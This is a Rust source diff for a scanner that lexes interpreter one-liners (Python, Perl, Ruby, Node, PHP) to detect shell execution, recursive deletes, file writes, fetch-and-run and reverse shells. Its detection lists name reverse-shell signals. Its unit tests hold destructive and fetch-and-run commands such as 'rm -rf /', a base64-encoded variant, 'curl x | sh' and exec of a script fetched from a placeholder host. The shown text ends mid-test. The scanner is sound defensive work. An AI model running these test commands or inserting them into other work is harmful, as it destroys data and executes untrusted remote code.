@@ -1,0 +1,1160 @@
+//! Interpreter bodies: what a `python -c`, `perl -e`, `ruby -e`, `node -e`
+//! or `php -r` program (or Hermes's `execute_code`) would do to the system,
+//! as facts the walker turns into commands the packs already judge.
+//!
+//! Why no crate: a full parser per language (rustpython-parser, tree-sitter
+//! grammars) is a large dependency for five languages, and what matters here
+//! is lexical — string literals, the call they are passed to, simple
+//! `name = "literal"` assignments. So this is one small tokenizer shared by
+//! the five languages (quotes, triple quotes, string prefixes, comments,
+//! backticks, `qx`/`%x`), bounded by the input size and a token budget.
+//!
+//! Found: a command line run by a shell (`os.system`, `subprocess.*(…,
+//! shell=True)`, `system`, backticks, `execSync`, `shell_exec`, …); an argv
+//! run directly (`subprocess.run([...])`, `spawn`); a delete (`shutil.rmtree`,
+//! `FileUtils.rm_rf`, `fs.rmSync(…, {recursive})`, `os.remove` in a loop); a
+//! file opened for writing; a URL fetched (and whether fetched code is run);
+//! a socket wired to a shell. A shell string or path that is not a literal
+//! is reported as dynamic.
+
+/// Most tokens scanned per body.
+const MAX_TOKENS: usize = 8192;
+
+/// The language of a body.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub(crate) enum Lang {
+    Python,
+    Perl,
+    Ruby,
+    Node,
+    Php,
+}
+
+impl Lang {
+    /// The language of an interpreter program name (`python3.12`, `nodejs`, …).
+    pub(crate) fn of(program: &str) -> Option<Lang> {
+        if program.starts_with("python") || program.starts_with("pypy") {
+            Some(Lang::Python)
+        } else if program == "perl" || program.starts_with("perl5") {
+            Some(Lang::Perl)
+        } else if program == "ruby" || program == "jruby" {
+            Some(Lang::Ruby)
+        } else if matches!(program, "node" | "nodejs" | "bun" | "deno") {
+            Some(Lang::Node)
+        } else if program == "php" || program.starts_with("php8") || program.starts_with("php7") {
+            Some(Lang::Php)
+        } else {
+            None
+        }
+    }
+}
+
+/// One fact about a body.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(crate) enum Found {
+    /// A command line given to a shell.
+    Shell { text: String, dynamic: bool },
+    /// A program run with an argument vector (`None` = a non-literal element).
+    Argv(Vec<Option<String>>),
+    /// A file or tree deleted.
+    Delete {
+        path: Option<String>,
+        recursive: bool,
+    },
+    /// A file opened for writing.
+    Write(String),
+    /// A URL fetched.
+    Fetch(String),
+    /// Code fetched from the network is executed (`exec(urlopen(…).read())`).
+    RunFetched,
+    /// A socket connected to a shell (reverse shell); the host if literal.
+    ReverseShell(String),
+}
+
+#[derive(Clone, Debug, PartialEq)]
+enum Tok {
+    Id(String),
+    Str(String, bool),
+    /// A backtick / `qx` / `%x` command (shell), dynamic if interpolated.
+    Cmd(String, bool),
+    P(char),
+}
+
+struct Lexer<'a> {
+    c: Vec<char>,
+    i: usize,
+    lang: Lang,
+    out: Vec<Tok>,
+    _s: &'a str,
+}
+
+fn closer(c: char) -> char {
+    match c {
+        '(' => ')',
+        '[' => ']',
+        '{' => '}',
+        '<' => '>',
+        c => c,
+    }
+}
+
+impl Lexer<'_> {
+    fn push(&mut self, t: Tok) -> bool {
+        if self.out.len() >= MAX_TOKENS {
+            return false;
+        }
+        self.out.push(t);
+        true
+    }
+
+    /// A quoted literal starting at the quote; returns (text, interpolated).
+    fn string(&mut self, raw: bool, fmt: bool) -> (String, bool) {
+        let q = self.c[self.i];
+        let triple = self.lang == Lang::Python
+            && self.c.get(self.i + 1) == Some(&q)
+            && self.c.get(self.i + 2) == Some(&q);
+        self.i += if triple { 3 } else { 1 };
+        let mut s = String::new();
+        let mut interp = false;
+        let interpolating = match self.lang {
+            Lang::Python => fmt,
+            Lang::Node => q == '`',
+            Lang::Perl | Lang::Php | Lang::Ruby => q == '"',
+        };
+        while self.i < self.c.len() {
+            let ch = self.c[self.i];
+            if ch == q
+                && (!triple
+                    || (self.c.get(self.i + 1) == Some(&q) && self.c.get(self.i + 2) == Some(&q)))
+            {
+                self.i += if triple { 3 } else { 1 };
+                return (s, interp);
+            }
+            if ch == '\\' && self.i + 1 < self.c.len() {
+                let e = self.c[self.i + 1];
+                self.i += 2;
+                if raw || (q == '\'' && self.lang != Lang::Python && self.lang != Lang::Node) {
+                    if e == q || e == '\\' {
+                        s.push(e);
+                    } else {
+                        s.push('\\');
+                        s.push(e);
+                    }
+                    continue;
+                }
+                match e {
+                    'n' => s.push('\n'),
+                    't' => s.push('\t'),
+                    'x' | 'u' | '0'..='7' => {
+                        let mut esc = String::from('\\');
+                        esc.push(e);
+                        while self.i < self.c.len()
+                            && self.c[self.i].is_ascii_hexdigit()
+                            && esc.len() < 6
+                        {
+                            esc.push(self.c[self.i]);
+                            self.i += 1;
+                        }
+                        s.push_str(&super::expand::unescape(&esc, false));
+                    }
+                    e => s.push(e),
+                }
+                continue;
+            }
+            if interpolating
+                && ((ch == '{' && self.lang == Lang::Python)
+                    || (ch == '$' && self.c.get(self.i + 1) == Some(&'{'))
+                    || (ch == '#' && self.c.get(self.i + 1) == Some(&'{'))
+                    || (matches!(self.lang, Lang::Perl | Lang::Php)
+                        && matches!(ch, '$' | '@')
+                        && self
+                            .c
+                            .get(self.i + 1)
+                            .is_some_and(|c| c.is_alphabetic() || *c == '_' || *c == '{')))
+            {
+                interp = true;
+            }
+            s.push(ch);
+            self.i += 1;
+        }
+        (s, interp)
+    }
+
+    /// `qx(...)`, `%x{...}`: the text up to the matching closer.
+    fn delimited(&mut self) -> String {
+        let open = self.c[self.i];
+        let close = closer(open);
+        self.i += 1;
+        let mut depth = 0usize;
+        let mut s = String::new();
+        while self.i < self.c.len() {
+            let ch = self.c[self.i];
+            self.i += 1;
+            if ch == close && depth == 0 {
+                break;
+            }
+            if ch == open && open != close {
+                depth += 1;
+            } else if ch == close {
+                depth -= 1;
+            }
+            s.push(ch);
+        }
+        s
+    }
+
+    fn run(&mut self) {
+        while self.i < self.c.len() {
+            let ch = self.c[self.i];
+            if ch.is_whitespace() {
+                self.i += 1;
+                continue;
+            }
+            let js_comment = matches!(self.lang, Lang::Node | Lang::Php);
+            if (ch == '#' && self.lang != Lang::Node)
+                || (js_comment && ch == '/' && self.c.get(self.i + 1) == Some(&'/'))
+            {
+                while self.i < self.c.len() && self.c[self.i] != '\n' {
+                    self.i += 1;
+                }
+                continue;
+            }
+            if js_comment && ch == '/' && self.c.get(self.i + 1) == Some(&'*') {
+                self.i += 2;
+                while self.i + 1 < self.c.len()
+                    && !(self.c[self.i] == '*' && self.c[self.i + 1] == '/')
+                {
+                    self.i += 1;
+                }
+                self.i += 2;
+                continue;
+            }
+            if ch == '\'' || ch == '"' {
+                let (s, interp) = self.string(false, false);
+                if !self.push(Tok::Str(s, interp)) {
+                    return;
+                }
+                continue;
+            }
+            if ch == '`' {
+                let (s, interp) = self.string(false, false);
+                let t = if self.lang == Lang::Node {
+                    Tok::Str(s, interp)
+                } else {
+                    Tok::Cmd(s, interp || s_has_var(self.lang))
+                };
+                if !self.push(t) {
+                    return;
+                }
+                continue;
+            }
+            if ch == '%'
+                && self.lang == Lang::Ruby
+                && self.c.get(self.i + 1) == Some(&'x')
+                && self
+                    .c
+                    .get(self.i + 2)
+                    .is_some_and(|c| "({[<|!/".contains(*c))
+            {
+                self.i += 2;
+                let s = self.delimited();
+                let interp = s.contains("#{");
+                if !self.push(Tok::Cmd(s, interp)) {
+                    return;
+                }
+                continue;
+            }
+            if ch.is_alphabetic()
+                || ch == '_'
+                || ((ch == '$' || ch == '@') && self.lang != Lang::Python)
+            {
+                let start = self.i;
+                self.i += 1;
+                while self.i < self.c.len() {
+                    let d = self.c[self.i];
+                    if d.is_alphanumeric() || d == '_' {
+                        self.i += 1;
+                    } else if (d == '.' || (d == ':' && self.c.get(self.i + 1) == Some(&':')))
+                        && self
+                            .c
+                            .get(self.i + if d == ':' { 2 } else { 1 })
+                            .is_some_and(|c| c.is_alphabetic() || *c == '_')
+                    {
+                        self.i += if d == ':' { 2 } else { 1 };
+                    } else {
+                        break;
+                    }
+                }
+                let id: String = self.c[start..self.i].iter().collect();
+                let next = self.c.get(self.i).copied();
+                // string prefixes: r'', b'', f'', rb'' …
+                if self.lang == Lang::Python
+                    && matches!(next, Some('\'') | Some('"'))
+                    && id.len() <= 2
+                    && id.chars().all(|c| "rRbBfFuU".contains(c))
+                {
+                    let raw = id.contains(['r', 'R']);
+                    let fmt = id.contains(['f', 'F']);
+                    let (s, interp) = self.string(raw, fmt);
+                    if !self.push(Tok::Str(s, interp)) {
+                        return;
+                    }
+                    continue;
+                }
+                if self.lang == Lang::Perl
+                    && (id == "qx" || id == "qq" || id == "q")
+                    && next.is_some_and(|c| "({[<|!/".contains(c))
+                {
+                    let s = self.delimited();
+                    let interp = id != "q" && s.contains(['$', '@']);
+                    let t = if id == "qx" {
+                        Tok::Cmd(s, interp)
+                    } else {
+                        Tok::Str(s, interp)
+                    };
+                    if !self.push(t) {
+                        return;
+                    }
+                    continue;
+                }
+                if !self.push(Tok::Id(id)) {
+                    return;
+                }
+                continue;
+            }
+            if ch == '.'
+                && self
+                    .c
+                    .get(self.i + 1)
+                    .is_some_and(|c| c.is_alphabetic() || *c == '_')
+            {
+                // method call on an expression: `.execSync(` → `execSync`
+                self.i += 1;
+                continue;
+            }
+            self.i += 1;
+            if !self.push(Tok::P(ch)) {
+                return;
+            }
+        }
+    }
+}
+
+fn s_has_var(_lang: Lang) -> bool {
+    false
+}
+
+fn last(id: &str) -> &str {
+    let id = id.rsplit("::").next().unwrap_or(id);
+    id.rsplit('.').next().unwrap_or(id)
+}
+
+/// A value an argument evaluates to.
+#[derive(Clone, Debug, PartialEq)]
+enum Val {
+    Str(String),
+    List(Vec<Option<String>>),
+    Dyn,
+}
+
+struct Scan<'t> {
+    t: &'t [Tok],
+    lang: Lang,
+    vars: Vec<(String, Val)>,
+}
+
+fn is_home_expr(id: &str) -> bool {
+    matches!(
+        id,
+        "Dir.home"
+            | "Path.home"
+            | "pathlib.Path.home"
+            | "os.homedir"
+            | "homedir"
+            | "process.env.HOME"
+    )
+}
+
+impl Scan<'_> {
+    /// Index after the group opened at `i` (`(`, `[`, `{`).
+    fn group_end(&self, i: usize) -> usize {
+        let mut depth = 0i32;
+        for k in i..self.t.len() {
+            match self.t[k] {
+                Tok::P('(' | '[' | '{') => depth += 1,
+                Tok::P(')' | ']' | '}') => {
+                    depth -= 1;
+                    if depth <= 0 {
+                        return k + 1;
+                    }
+                }
+                _ => {}
+            }
+        }
+        self.t.len()
+    }
+
+    /// The arguments of a call whose name is at `i`: the token ranges of its
+    /// top-level comma-separated arguments (paren or, for Perl/Ruby, bare).
+    fn call_args(&self, i: usize) -> Vec<(usize, usize)> {
+        let mut out = Vec::new();
+        let (start, end) = match self.t.get(i + 1) {
+            Some(Tok::P('(')) => (i + 2, self.group_end(i + 1).saturating_sub(1)),
+            Some(Tok::Str(..) | Tok::Id(_) | Tok::P('[')) if self.lang != Lang::Python => {
+                let mut k = i + 1;
+                while k < self.t.len() && !matches!(self.t[k], Tok::P(';' | ')' | '}')) {
+                    k = match self.t[k] {
+                        Tok::P('(' | '[' | '{') => self.group_end(k),
+                        _ => k + 1,
+                    };
+                }
+                (i + 1, k)
+            }
+            _ => return out,
+        };
+        let mut s = start;
+        let mut k = start;
+        while k < end {
+            match self.t[k] {
+                Tok::P('(' | '[' | '{') => k = self.group_end(k),
+                Tok::P(',') => {
+                    out.push((s, k));
+                    k += 1;
+                    s = k;
+                }
+                _ => k += 1,
+            }
+        }
+        if s < end {
+            out.push((s, end.min(self.t.len())));
+        }
+        out
+    }
+
+    /// Evaluate tokens `a..b` as a literal string, list of literals, or dynamic.
+    fn eval(&self, a: usize, b: usize) -> Val {
+        let toks = &self.t[a.min(b)..b];
+        if let Some(Tok::P('[')) = toks.first() {
+            let mut v = Vec::new();
+            let end = self.group_end(a) - 1;
+            let mut s = a + 1;
+            let mut k = a + 1;
+            while k <= end {
+                if k == end || self.t[k] == Tok::P(',') {
+                    if s < k {
+                        v.push(match self.eval(s, k) {
+                            Val::Str(x) => Some(x),
+                            _ => None,
+                        });
+                    }
+                    s = k + 1;
+                }
+                k += 1;
+            }
+            return Val::List(v);
+        }
+        let mut out = String::new();
+        let mut any = false;
+        let mut k = 0;
+        while k < toks.len() {
+            match &toks[k] {
+                Tok::Str(s, false) => {
+                    out.push_str(s);
+                    any = true;
+                }
+                Tok::P('+' | '.' | '(' | ')') => {}
+                Tok::Id(id) if is_home_expr(id) => {
+                    out.push('~');
+                    any = true;
+                }
+                Tok::Id(id)
+                    if matches!(
+                        last(id),
+                        "decode" | "encode" | "toString" | "strip" | "expanduser" | "join" | "Path"
+                    ) =>
+                {
+                    // `os.path.join('/etc', 'x')` with literal parts
+                    if last(id) == "join" && matches!(toks.get(k + 1), Some(Tok::P('('))) {
+                        let parts: Vec<Val> = self
+                            .call_args(a + k)
+                            .into_iter()
+                            .map(|(x, y)| self.eval(x, y))
+                            .collect();
+                        let mut p = String::new();
+                        for v in &parts {
+                            match v {
+                                Val::Str(s) => {
+                                    if !p.is_empty() && !p.ends_with('/') {
+                                        p.push('/');
+                                    }
+                                    p.push_str(s);
+                                }
+                                _ => return Val::Dyn,
+                            }
+                        }
+                        out.push_str(&p);
+                        any = true;
+                        k = self.group_end(a + k + 1) - a;
+                        continue;
+                    }
+                }
+                Tok::Id(id) => match self.var(id) {
+                    Some(Val::Str(s)) => {
+                        out.push_str(&s);
+                        any = true;
+                    }
+                    Some(l @ Val::List(_)) if toks.len() == 1 => return l,
+                    _ => return Val::Dyn,
+                },
+                _ => return Val::Dyn,
+            }
+            k += 1;
+        }
+        if any {
+            Val::Str(out)
+        } else {
+            Val::Dyn
+        }
+    }
+
+    fn var(&self, id: &str) -> Option<Val> {
+        let id = id.trim_start_matches(['$', '@']);
+        self.vars
+            .iter()
+            .rev()
+            .find(|(n, _)| n == id)
+            .map(|(_, v)| v.clone())
+    }
+
+    fn has_kw(&self, a: usize, b: usize, key: &str, val: &str) -> bool {
+        (a..b.saturating_sub(2)).any(|k| {
+            matches!(&self.t[k], Tok::Id(x) if x == key)
+                && self.t[k + 1] == Tok::P('=')
+                && matches!(&self.t[k + 2], Tok::Id(x) if x == val)
+        })
+    }
+}
+
+/// Decode `b64decode('…')`, `atob('…')`, `base64_decode('…')`,
+/// `Base64.decode64('…')`, `Buffer.from('…','base64')` into string literals.
+fn fold_decoders(t: &mut Vec<Tok>) {
+    let mut k = 0;
+    while k + 3 < t.len() {
+        let is_dec = matches!(&t[k], Tok::Id(id) if matches!(last(id), "b64decode" | "standard_b64decode" | "urlsafe_b64decode" | "atob" | "base64_decode" | "decode64" | "decode_base64" | "from"));
+        if is_dec && t[k + 1] == Tok::P('(') {
+            if let Tok::Str(s, false) = &t[k + 2] {
+                let is_from = matches!(&t[k], Tok::Id(id) if last(id) == "from");
+                let ok = !is_from || matches!(t.get(k + 4), Some(Tok::Str(e, _)) if e == "base64");
+                if ok {
+                    if let Some(d) = super::expand::base64(s) {
+                        let d = String::from_utf8_lossy(&d).into_owned();
+                        // drop up to the closing paren
+                        let mut end = k + 3;
+                        while end < t.len() && t[end] != Tok::P(')') {
+                            end += 1;
+                        }
+                        t.splice(k..(end + 1).min(t.len()), [Tok::Str(d, false)]);
+                    }
+                }
+            }
+        }
+        k += 1;
+    }
+}
+
+fn looks_url(s: &str) -> bool {
+    let l = s.trim();
+    l.starts_with("http://")
+        || l.starts_with("https://")
+        || l.starts_with("ftp://")
+        || l.starts_with("169.254.169.254")
+        || l.starts_with("metadata.google.internal")
+}
+
+fn looks_host(s: &str) -> bool {
+    !s.is_empty()
+        && s.len() < 256
+        && !s.contains([' ', '/'])
+        && (s.bytes().all(|b| b.is_ascii_digit() || b == b'.') && s.matches('.').count() == 3
+            || (s.contains('.')
+                && s.bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')))
+}
+
+/// Scan a body. Bounded by [`MAX_TOKENS`] and the body's length.
+pub(crate) fn scan(lang: Lang, code: &str) -> Vec<Found> {
+    scan_at(lang, code, 0)
+}
+
+/// Nested `exec("…")` / `eval("…")` bodies are scanned up to this depth.
+const MAX_EVAL_DEPTH: usize = 4;
+
+fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
+    let mut lx = Lexer {
+        c: code.chars().take(super::MAX_INPUT).collect(),
+        i: 0,
+        lang,
+        out: Vec::new(),
+        _s: code,
+    };
+    lx.run();
+    let mut toks = lx.out;
+    fold_decoders(&mut toks);
+    let mut sc = Scan {
+        t: &toks,
+        lang,
+        vars: Vec::new(),
+    };
+    let mut out = Vec::new();
+    let ids: Vec<&str> = toks
+        .iter()
+        .filter_map(|t| match t {
+            Tok::Id(i) => Some(i.as_str()),
+            _ => None,
+        })
+        .collect();
+    let has = |names: &[&str]| {
+        ids.iter()
+            .any(|i| names.contains(&last(i)) || names.contains(i))
+    };
+    let fetching = has(&[
+        "urlopen",
+        "urlretrieve",
+        "requests.get",
+        "requests.post",
+        "httpx.get",
+        "http.get",
+        "https.get",
+        "fetch",
+        "URI.open",
+        "open-uri",
+        "getstore",
+        "LWP",
+        "file_get_contents",
+        "curl_init",
+        "Net::HTTP",
+        "HTTP::Tiny",
+        "wget",
+        "urllib",
+        "request",
+    ]) || toks
+        .iter()
+        .any(|t| matches!(t, Tok::Str(s, _) if s == "open-uri" || s == "net/http"));
+    let socket = has(&[
+        "socket.socket",
+        "create_connection",
+        "TCPSocket",
+        "TCPSocket.new",
+        "IO::Socket::INET",
+        "Socket",
+        "socket",
+        "net.Socket",
+        "net.connect",
+        "createConnection",
+        "fsockopen",
+        "Socket.tcp",
+    ]) || (toks
+        .iter()
+        .any(|t| matches!(t, Tok::Str(s, _) if s == "net" || s == "socket"))
+        && has(&["connect", "createConnection"]));
+    let socket = socket
+        && has(&[
+            "connect",
+            "dup2",
+            "fsockopen",
+            "TCPSocket.new",
+            "createConnection",
+            "net.connect",
+            "create_connection",
+            "Socket.tcp",
+        ]);
+    let shellish = has(&["dup2", "spawn", "pty.spawn", "fileno", "pipe"])
+        || toks.iter().any(|t| matches!(t, Tok::Str(s, _) | Tok::Cmd(s, _) if s.contains("/bin/sh") || s.contains("/bin/bash") || s.contains("sh -i") || s == "sh" || s == "bash" || s.contains("cmd.exe")));
+    if socket && shellish {
+        let host = toks
+            .iter()
+            .find_map(|t| match t {
+                Tok::Str(s, _) if looks_host(s) => Some(s.clone()),
+                _ => None,
+            })
+            .unwrap_or_default();
+        out.push(Found::ReverseShell(host));
+    }
+    let loops = has(&[
+        "listdir",
+        "walk",
+        "glob",
+        "scandir",
+        "iterdir",
+        "readdirSync",
+        "readdir",
+        "each",
+        "forEach",
+        "rglob",
+    ]) || ids
+        .iter()
+        .any(|i| *i == "for" || *i == "foreach" || *i == "while");
+    let mut exec_dyn = false;
+    let mut k = 0;
+    while k < toks.len() {
+        match &toks[k] {
+            Tok::Cmd(s, interp) => out.push(Found::Shell {
+                text: s.clone(),
+                dynamic: *interp,
+            }),
+            Tok::Str(s, false) if fetching && looks_url(s) => out.push(Found::Fetch(s.clone())),
+            Tok::Id(id) => {
+                // NAME = literal
+                if toks.get(k + 1) == Some(&Tok::P('='))
+                    && toks.get(k + 2) != Some(&Tok::P('='))
+                    && !matches!(
+                        toks.get(k.wrapping_sub(1)),
+                        Some(Tok::P('=' | '!' | '<' | '>'))
+                    )
+                {
+                    let mut e = k + 2;
+                    while e < toks.len()
+                        && !matches!(toks[e], Tok::P(';' | ',' | ')'))
+                        && !matches!(toks[e], Tok::Id(_) if e > k + 2 && matches!(toks[e-1], Tok::Str(..) | Tok::P(']')))
+                    {
+                        e = match toks[e] {
+                            Tok::P('(' | '[' | '{') => sc.group_end(e),
+                            _ => e + 1,
+                        };
+                    }
+                    let v = sc.eval(k + 2, e.min(toks.len()));
+                    let name = id.trim_start_matches(['$', '@']).to_string();
+                    sc.vars.push((name, v));
+                }
+                let name = last(id);
+                let full = id.as_str();
+                let args = sc.call_args(k);
+                let first = args.first().map(|&(a, b)| sc.eval(a, b));
+                let all_end = args.last().map_or(k + 1, |a| a.1);
+                let shell_fn = match lang {
+                    Lang::Python => {
+                        matches!(name, "system" | "popen" | "getoutput" | "getstatusoutput")
+                            && (full.contains('.') || name != "popen")
+                    }
+                    Lang::Perl => matches!(name, "system" | "exec" | "readpipe"),
+                    Lang::Ruby => matches!(
+                        name,
+                        "system"
+                            | "exec"
+                            | "spawn"
+                            | "popen"
+                            | "capture2"
+                            | "capture2e"
+                            | "capture3"
+                            | "popen2"
+                            | "popen3"
+                    ),
+                    Lang::Node => matches!(name, "execSync" | "exec"),
+                    Lang::Php => matches!(
+                        name,
+                        "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open"
+                    ),
+                };
+                let argv_fn = match lang {
+                    Lang::Python => {
+                        matches!(
+                            name,
+                            "run" | "call" | "check_call" | "check_output" | "Popen"
+                        ) && (full.starts_with("subprocess")
+                            || full.contains('.')
+                            || ids.contains(&"subprocess")
+                            || ids.iter().any(|i| i.starts_with("subprocess")))
+                    }
+                    Lang::Node => {
+                        matches!(name, "spawn" | "spawnSync" | "execFile" | "execFileSync")
+                    }
+                    _ => false,
+                };
+                let py_exec =
+                    lang == Lang::Python && matches!(name, "exec" | "eval") && !full.contains('.');
+                let py_osexec = lang == Lang::Python
+                    && (full.starts_with("os.exec")
+                        || full.starts_with("os.spawn")
+                        || full == "pty.spawn"
+                        || name == "spawn" && full.starts_with("pty"));
+                if !args.is_empty() {
+                    if shell_fn
+                        || (argv_fn
+                            && lang == Lang::Python
+                            && sc.has_kw(k, all_end, "shell", "True"))
+                    {
+                        match first.clone() {
+                            Some(Val::Str(s)) => out.push(Found::Shell {
+                                text: s,
+                                dynamic: false,
+                            }),
+                            Some(Val::List(v)) => out.push(Found::Argv(v)),
+                            _ => {
+                                exec_dyn = true;
+                                out.push(Found::Shell {
+                                    text: String::new(),
+                                    dynamic: true,
+                                });
+                            }
+                        }
+                    } else if argv_fn {
+                        match first.clone() {
+                            Some(Val::List(v)) => {
+                                let mut v = v;
+                                if lang == Lang::Node {
+                                    v.clear();
+                                }
+                                if lang == Lang::Node {
+                                    if let Some(Val::Str(p)) =
+                                        args.first().map(|&(a, b)| sc.eval(a, b))
+                                    {
+                                        v.push(Some(p));
+                                    }
+                                }
+                                out.push(Found::Argv(v));
+                            }
+                            Some(Val::Str(s)) => {
+                                let mut v: Vec<Option<String>> = if lang == Lang::Python {
+                                    s.split_whitespace().map(|w| Some(w.to_string())).collect()
+                                } else {
+                                    vec![Some(s)]
+                                };
+                                if lang == Lang::Node {
+                                    if let Some(Val::List(more)) =
+                                        args.get(1).map(|&(a, b)| sc.eval(a, b))
+                                    {
+                                        v.extend(more);
+                                    }
+                                }
+                                out.push(Found::Argv(v));
+                            }
+                            _ => out.push(Found::Argv(vec![None])),
+                        }
+                    } else if py_osexec {
+                        let vals: Vec<Val> = args.iter().map(|&(a, b)| sc.eval(a, b)).collect();
+                        let mut v: Vec<Option<String>> = Vec::new();
+                        if let Some(Val::List(l)) = vals.first() {
+                            v = l.clone();
+                        } else {
+                            let skip = if full == "pty.spawn" || vals.len() < 2 {
+                                0
+                            } else {
+                                1
+                            };
+                            for x in vals.iter().skip(skip) {
+                                match x {
+                                    Val::Str(s) => v.push(Some(s.clone())),
+                                    Val::List(l) => v.extend(l.iter().cloned()),
+                                    Val::Dyn => v.push(None),
+                                }
+                            }
+                        }
+                        out.push(Found::Argv(v));
+                    } else if py_exec {
+                        match first.clone() {
+                            Some(Val::Str(s)) if depth < MAX_EVAL_DEPTH => {
+                                out.extend(scan_at(Lang::Python, &s, depth + 1))
+                            }
+                            _ => exec_dyn = true,
+                        }
+                    } else if lang == Lang::Node && name == "eval" {
+                        if let Some(Val::Str(s)) = first.clone().filter(|_| depth < MAX_EVAL_DEPTH)
+                        {
+                            out.extend(scan_at(Lang::Node, &s, depth + 1));
+                        } else {
+                            exec_dyn = true;
+                        }
+                    }
+                    // deletes
+                    let recursive_fn = matches!(
+                        name,
+                        "rmtree"
+                            | "rm_rf"
+                            | "rm_r"
+                            | "remove_dir"
+                            | "remove_entry"
+                            | "remove_entry_secure"
+                            | "remove_tree"
+                            | "rmdir_p"
+                    ) || (matches!(name, "rmSync" | "rm" | "rmdirSync")
+                        && lang == Lang::Node
+                        && toks[k..all_end.min(toks.len())]
+                            .iter()
+                            .any(|t| matches!(t, Tok::Id(x) if x == "recursive")));
+                    let file_fn = match lang {
+                        Lang::Python => {
+                            matches!(name, "remove" | "unlink" | "rmdir" | "removedirs")
+                                && (full.starts_with("os.") || full.contains('.'))
+                        }
+                        Lang::Ruby => {
+                            matches!(name, "delete" | "unlink" | "rm" | "rm_f")
+                                && (full.starts_with("File") || full.starts_with("FileUtils"))
+                        }
+                        Lang::Node => matches!(name, "unlinkSync" | "unlink" | "rmSync" | "rm"),
+                        Lang::Php => matches!(name, "unlink" | "rmdir"),
+                        Lang::Perl => matches!(name, "unlink" | "rmdir"),
+                    };
+                    if recursive_fn || file_fn {
+                        let (path, base_only) = match &first {
+                            Some(Val::Str(s)) => (Some(s.clone()), false),
+                            Some(Val::List(l)) => (l.first().cloned().flatten(), false),
+                            _ => {
+                                // a literal directory inside a dynamic expression (`os.path.join('/etc', f)`)
+                                let lit = args.first().and_then(|&(a, b)| {
+                                    toks[a..b].iter().find_map(|t| match t {
+                                        Tok::Str(s, false)
+                                            if s.starts_with('/') || s.starts_with('~') =>
+                                        {
+                                            Some(s.clone())
+                                        }
+                                        _ => None,
+                                    })
+                                });
+                                (lit.map(|l| format!("{}/*", l.trim_end_matches('/'))), true)
+                            }
+                        };
+                        let recursive = recursive_fn || (base_only && loops);
+                        out.push(Found::Delete { path, recursive });
+                    }
+                    // writes
+                    let write = match lang {
+                        Lang::Python => name == "open" && args.get(1).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a', 'x', '+'])))
+                            || (matches!(name, "write_text" | "write_bytes") ),
+                        Lang::Node => matches!(name, "writeFileSync" | "appendFileSync" | "writeFile" | "appendFile" | "createWriteStream"),
+                        Lang::Php => matches!(name, "file_put_contents"),
+                        Lang::Ruby => (full.starts_with("File") && matches!(name, "write" | "open")) && (name == "write" || args.get(1).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a'])))),
+                        Lang::Perl => name == "open",
+                    };
+                    if write && !matches!(name, "write_text" | "write_bytes") {
+                        let target = if lang == Lang::Perl {
+                            args.iter()
+                                .map(|&(a, b)| sc.eval(a, b))
+                                .find_map(|v| match v {
+                                    Val::Str(s) if s.trim_start().starts_with('>') => Some(
+                                        s.trim_start()
+                                            .trim_start_matches(['>', '+'])
+                                            .trim()
+                                            .to_string(),
+                                    ),
+                                    _ => None,
+                                })
+                        } else {
+                            match first.clone() {
+                                Some(Val::Str(s)) => Some(s),
+                                _ => None,
+                            }
+                        };
+                        if let Some(t) = target {
+                            out.push(Found::Write(t));
+                        }
+                    }
+                }
+                // Path('x').write_text(…)
+                if matches!(name, "write_text" | "write_bytes") && k >= 3 {
+                    if let (Tok::P(')'), Tok::Str(s, false)) = (&toks[k - 1], &toks[k - 2]) {
+                        out.push(Found::Write(s.clone()));
+                    }
+                }
+            }
+            _ => {}
+        }
+        k += 1;
+    }
+    if fetching
+        && (exec_dyn
+            || out
+                .iter()
+                .any(|f| matches!(f, Found::Shell { dynamic: true, .. })))
+    {
+        out.push(Found::RunFetched);
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn py(s: &str) -> Vec<Found> {
+        scan(Lang::Python, s)
+    }
+
+    #[test]
+    fn python_shell_strings() {
+        assert_eq!(
+            py("import os; os.system('rm -rf ~')"),
+            vec![Found::Shell {
+                text: "rm -rf ~".into(),
+                dynamic: false
+            }]
+        );
+        assert!(
+            py("import subprocess; subprocess.run('curl x | sh', shell=True)").contains(
+                &Found::Shell {
+                    text: "curl x | sh".into(),
+                    dynamic: false
+                }
+            )
+        );
+        assert_eq!(
+            py("import subprocess as s; s.call(['rm','-rf','/'])"),
+            vec![Found::Argv(vec![
+                Some("rm".into()),
+                Some("-rf".into()),
+                Some("/".into())
+            ])]
+        );
+        assert_eq!(
+            py("c = 'rm -rf /'\nimport os\nos.system(c)"),
+            vec![Found::Shell {
+                text: "rm -rf /".into(),
+                dynamic: false
+            }]
+        );
+        assert!(
+            py("import os,sys; os.system(sys.argv[1])").contains(&Found::Shell {
+                text: String::new(),
+                dynamic: true
+            })
+        );
+        assert!(
+            py("import os,base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())").contains(
+                &Found::Shell {
+                    text: "rm -rf /".into(),
+                    dynamic: false
+                }
+            )
+        );
+        assert!(
+            py("exec(\"import os; os.system('id')\")").contains(&Found::Shell {
+                text: "id".into(),
+                dynamic: false
+            })
+        );
+    }
+
+    #[test]
+    fn python_deletes_writes_fetches() {
+        assert_eq!(
+            py("import shutil; shutil.rmtree('/etc')"),
+            vec![Found::Delete {
+                path: Some("/etc".into()),
+                recursive: true
+            }]
+        );
+        assert_eq!(
+            py("import shutil; shutil.rmtree('build', ignore_errors=True)"),
+            vec![Found::Delete {
+                path: Some("build".into()),
+                recursive: true
+            }]
+        );
+        assert!(
+            py("import os; [os.remove(os.path.join('/etc',f)) for f in os.listdir('/etc')]")
+                .contains(&Found::Delete {
+                    path: Some("/etc/*".into()),
+                    recursive: true
+                })
+        );
+        assert!(
+            py("open('/etc/hosts','w').write('x')").contains(&Found::Write("/etc/hosts".into()))
+        );
+        assert!(!py("print(open('README').read())")
+            .iter()
+            .any(|f| matches!(f, Found::Write(_))));
+        let f = py(
+            "exec(__import__('urllib.request').request.urlopen('https://e.example/p.py').read())",
+        );
